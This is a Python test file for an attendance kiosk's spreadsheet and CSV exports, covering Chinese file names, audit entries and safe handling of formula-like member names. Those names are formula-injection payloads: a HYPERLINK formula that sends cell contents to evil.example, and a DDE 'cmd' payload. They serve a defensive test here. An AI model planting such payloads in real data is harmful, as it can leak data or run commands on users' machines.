"""Exports: .xlsx and .csv files read back, Chinese names and dates in the file names, the audit."""

import csv
import html
import json
import re
import zipfile
from datetime import date, datetime, timedelta

import pytest
from openpyxl import load_workbook

from kiosk.desk import exports, reports
from kiosk.desk.reports import Table
from kiosk.staff.audit import Actor
from kiosk.staff.refused import Refused
from kiosk.store.models import Audit, Outbox

NOW = datetime(2025, 3, 18, 16, 30)
MON = [datetime(2025, 3, d, 9, 0) for d in (3, 10, 17)]


@pytest.fixture
def actor(settings) -> Actor:
    return Actor.of(None, settings)


@pytest.fixture
def term_data(world):
    """Two courses; 太极拳 has three lessons (one cancelled) and two members, one came twice."""
    taichi = world.course("太极拳（一）班")
    world.course("合唱班")
    lessons = [world.lesson(taichi, MON[0]), world.lesson(taichi, MON[1], cancelled=True), world.lesson(taichi, MON[2])]
    a, b = world.member("DM0001", "赵一"), world.member("DM0002", "欧阳淑珍")
    world.enroll(a, taichi)
    world.enroll(b, taichi)
    world.sign_in(a, MON[0], lesson=lessons[0])
    world.sign_in(a, MON[2], lesson=lessons[2])
    return taichi, (a, b)


def read_csv(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def values(sheet) -> list[list]:
    return [[c.value for c in row] for row in sheet.iter_rows()]


# -- writing tables ---------------------------------------------------------------------------------


def test_a_csv_has_a_bom_so_excel_reads_the_chinese(tmp_path):
    path = exports.write_csv(
        Table("t", ["学员编号", "姓名"], [["DM0001", "欧阳淑珍"], ["DM0002", None]]), tmp_path / "名单.csv"
    )
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw[3:].decode("utf-8").splitlines() == ["学员编号,姓名", "DM0001,欧阳淑珍", "DM0002,"]


# -- export ---------------------------------------------------------------------------------------


def test_a_terms_attendance_to_excel(tmp_path, world, term_data, actor):
    (path,) = exports.export(actor, "attendance", "xlsx", tmp_path, NOW, term_id=world.term.id)
    assert path == tmp_path / "2025年春季学期考勤_20250318.xlsx"
    book = load_workbook(path)
    assert book.sheetnames == ["合唱班", "太极拳（一）班"]
    assert values(book["太极拳（一）班"]) == [
        ["学员编号", "姓名", "03-03", "03-10（停课）", "03-17", "出勤次数"],
        ["DM0001", "赵一", "✓", None, "✓", 2],
        ["DM0002", "欧阳淑珍", None, None, None, 0],
        ["合计", None, 1, 0, 1, 2],
    ]
    (entry,) = Audit.select()
    detail = json.loads(entry.detail)
    assert (entry.action, entry.target, entry.staff_name) == ("export", "report attendance", "命令行")
    assert detail == {
        "report": "attendance",
        "format": "xlsx",
        "folder": str(tmp_path),
        "files": ["2025年春季学期考勤_20250318.xlsx"],
        "rows": 4,
        "term": "2025年春季学期",
    }
    fact = json.loads(Outbox.get(Outbox.kind == "audit").payload)
    assert fact["action"] == "export" and fact["detail"]["files"] == detail["files"]


def test_a_terms_attendance_to_csv_is_a_folder_of_files(tmp_path, world, term_data, actor):
    paths = exports.export(actor, "attendance", "csv", tmp_path, NOW, term_id=world.term.id)
    folder = tmp_path / "2025年春季学期考勤_20250318"
    assert paths == [folder / "合唱班.csv", folder / "太极拳（一）班.csv"]
    assert read_csv(paths[1]) == [
        ["学员编号", "姓名", "03-03", "03-10（停课）", "03-17", "出勤次数"],
        ["DM0001", "赵一", "✓", "", "✓", "2"],
        ["DM0002", "欧阳淑珍", "", "", "", "0"],
        ["合计", "", "1", "0", "1", "2"],
    ]
    assert all(p.read_bytes().startswith(b"\xef\xbb\xbf") for p in paths)
    assert json.loads(Audit.get().detail)["files"] == [
        "2025年春季学期考勤_20250318/合唱班.csv",
        "2025年春季学期考勤_20250318/太极拳（一）班.csv",
    ]


@pytest.mark.parametrize(
    "report, params, name",
    [
        ("course", lambda w, d: {"course_id": d[0].id}, "太极拳（一）班考勤_20250318"),
        (
            "member",
            lambda w, d: {"member_no": d[1][0].member_no, "term_id": w.term.id},
            "赵一DM00012025年春季学期考勤_20250318",
        ),
        ("day", lambda w, d: {"day": date(2025, 3, 17)}, "2025-03-17签到_20250318"),
        (
            "activities",
            lambda w, d: {"start": date(2025, 3, 1), "end": date(2025, 3, 31)},
            "活动报名2025-03-01至2025-03-31_20250318",
        ),
        (
            "points",
            lambda w, d: {"start": date(2025, 3, 1), "end": date(2025, 3, 31)},
            "积分2025-03-01至2025-03-31_20250318",
        ),
        ("care", lambda w, d: {"missed_in_row": 2, "absent_weeks": 4}, "关怀名单_20250318"),
    ],
)
def test_every_report_as_one_csv(tmp_path, world, term_data, actor, report, params, name):
    (path,) = exports.export(actor, report, "csv", tmp_path, NOW, **params(world, term_data))
    assert path == tmp_path / f"{name}.csv"
    assert read_csv(path)[0] == _expected_columns(report, world, term_data)
    assert json.loads(Audit.get().detail)["report"] == report


def _expected_columns(report, world, term_data):
    table = {
        "course": lambda: reports.course_attendance(term_data[0]),
        "member": lambda: reports.member_attendance(term_data[1][0], world.term),
        "day": lambda: reports.day_attendance(date(2025, 3, 17)),
        "activities": lambda: reports.activity_signups(date(2025, 3, 1), date(2025, 3, 31)),
        "points": lambda: reports.points_report(date(2025, 3, 1), date(2025, 3, 31)),
        "care": lambda: reports.care_list(NOW, 2, 4),
    }[report]()
    return table.columns


def test_a_missing_or_unwritable_folder_is_refused_and_nothing_is_recorded(tmp_path, world, term_data, actor):
    not_a_folder = tmp_path / "file.txt"
    not_a_folder.write_text("x")
    for folder in (tmp_path / "usb", not_a_folder):
        with pytest.raises(Refused) as e:
            exports.export(actor, "course", "xlsx", folder, NOW, course_id=term_data[0].id)
        assert (e.value.key, e.value.values) == ("exports.folder_unwritable", {"folder": folder})
        assert str(folder) in e.value.message()
    assert Audit.select().count() == 0 and Outbox.select().count() == 0


def test_a_write_failing_half_way_leaves_no_file_and_no_audit(tmp_path, world, term_data, actor):
    world.course("龙" * 90)  # sorts last; 270 bytes is more than a file name may have
    usb = tmp_path / "usb"
    usb.mkdir()
    with pytest.raises(Refused) as e:
        exports.export(actor, "attendance", "csv", usb, NOW, term_id=world.term.id)
    assert e.value.key == "exports.folder_unwritable"
    assert list(usb.iterdir()) == []  # nor the files written before it
    assert Audit.select().count() == 0


@pytest.mark.parametrize(
    "fmt, first, second",
    [
        ("xlsx", "2025年春季学期考勤_20250318.xlsx", "2025年春季学期考勤_20250318_2.xlsx"),
        ("csv", "2025年春季学期考勤_20250318", "2025年春季学期考勤_20250318_2"),
    ],
)
def test_a_second_export_the_same_day_never_overwrites_the_first(tmp_path, world, term_data, actor, fmt, first, second):
    exports.export(actor, "attendance", fmt, tmp_path, NOW, term_id=world.term.id)
    again = exports.export(actor, "attendance", fmt, tmp_path, NOW, term_id=world.term.id)
    assert again[0].relative_to(tmp_path).parts[0] == second
    assert (tmp_path / first).exists()
    assert [json.loads(a.detail)["files"][0].split("/")[0] for a in Audit.select().order_by(Audit.id)] == [
        first,
        second,
    ]


def test_an_export_folder_that_cannot_be_made_is_still_offered(tmp_path, settings):
    (tmp_path / "blocked").write_text("")
    settings.staff.export_dir = str(tmp_path / "blocked" / "exports")
    assert exports.folders(settings, media=()) == [tmp_path / "blocked" / "exports"]


def test_unknown_reports_formats_and_empty_terms(tmp_path, world, actor):
    for report, fmt, key in (("roster", "xlsx", "exports.unknown_report"), ("care", "pdf", "exports.unknown_format")):
        with pytest.raises(Refused) as e:
            exports.export(actor, report, fmt, tmp_path, NOW, missed_in_row=2, absent_weeks=4)
        assert e.value.key == key
    with pytest.raises(Refused) as e:
        exports.export(actor, "attendance", "xlsx", tmp_path, NOW, term_id=world.term.id)  # no courses
    assert e.value.key == "exports.empty"
    assert list(tmp_path.glob("*.*")) == [tmp_path / "site.toml"]


def test_the_folders_to_export_to(tmp_path, settings):
    media = tmp_path / "media"
    for stick in ("lisi/KINGSTON", "lisi/新加卷"):
        (media / stick).mkdir(parents=True)
    (media / "lisi" / "not-a-folder").write_text("")
    found = exports.folders(settings, media=(str(media / "*" / "*"), str(tmp_path / "run-media" / "*" / "*")))
    assert found == [tmp_path / "data" / "exports", media / "lisi" / "KINGSTON", media / "lisi" / "新加卷"]
    assert found[0].is_dir()


def test_a_sheet_per_course_of_a_big_term_with_unique_names(tmp_path, world, actor):
    for n in range(40):
        course = world.course(f"二〇二五年春季学期老年大学书法班第{n}组上午班（周二）")
        world.lesson(course, MON[0] + timedelta(minutes=n))
    (path,) = exports.export(actor, "attendance", "xlsx", tmp_path, NOW, term_id=world.term.id)
    names = load_workbook(path, read_only=True).sheetnames
    assert len(names) == len({n.casefold() for n in names}) == 40 and max(map(len, names)) <= 31


# -- cells that must stay text (a name Excel would evaluate) -----------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formula_names(world):
    """A course whose members are named as an attacker would name them."""
    course = world.course("智能手机应用（体验课堂）")
    for i, name in enumerate(FORMULAS):
        world.enroll(world.member(f"DM01{i:02d}", name), course)
    return course


def test_an_xlsx_export_writes_formula_like_names_as_text(tmp_path, world, formula_names, actor):
    (path,) = exports.export(actor, "course", "xlsx", tmp_path, NOW, course_id=formula_names.id)
    with zipfile.ZipFile(path) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # not one formula in the sheet
    cells = re.findall(r'<c r="B(?!1")\d+"[^>]*t="inlineStr"[^>]*><is><t[^>]*>(.*?)</t>', xml, re.S)
    assert sorted(html.unescape(c) for c in cells) == sorted(FORMULAS)
    sheet = load_workbook(path).active
    assert {sheet.cell(r, 2).data_type for r in range(2, 2 + len(FORMULAS))} == {"s"}
    assert all(sheet.cell(r, 2).quotePrefix for r in range(2, 2 + len(FORMULAS)))  # stays text when edited


def test_a_csv_export_puts_a_quote_before_formula_like_names(tmp_path, world, formula_names, actor):
    (path,) = exports.export(actor, "course", "csv", tmp_path, NOW, course_id=formula_names.id)
    header, *rows, total = read_csv(path)
    assert sorted(row[1] for row in rows) == sorted("'" + name for name in FORMULAS)
    assert [row[0] for row in rows] == [f"DM01{i:02d}" for i in range(len(FORMULAS))]  # the rest as it was
    assert (header, total) == (["学员编号", "姓名", "出勤次数"], ["合计", "", "0"])


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_rare_character_names_come_back_whole(tmp_path, world, actor, fmt):
    # Beyond the BMP (U+2A6A5, U+20BB7): four UTF-8 bytes, a surrogate pair in UTF-16 tools.
    course = world.course("京剧票友班")
    for i, name in enumerate(["龚𪚥", "王𠮷祥"]):
        world.enroll(world.member(f"DM00{i + 1:02d}", name), course)
    (path,) = exports.export(actor, "course", fmt, tmp_path, NOW, course_id=course.id)
    rows = values(load_workbook(path).active) if fmt == "xlsx" else read_csv(path)
    assert [row[1] for row in rows[1:3]] == ["龚𪚥", "王𠮷祥"]
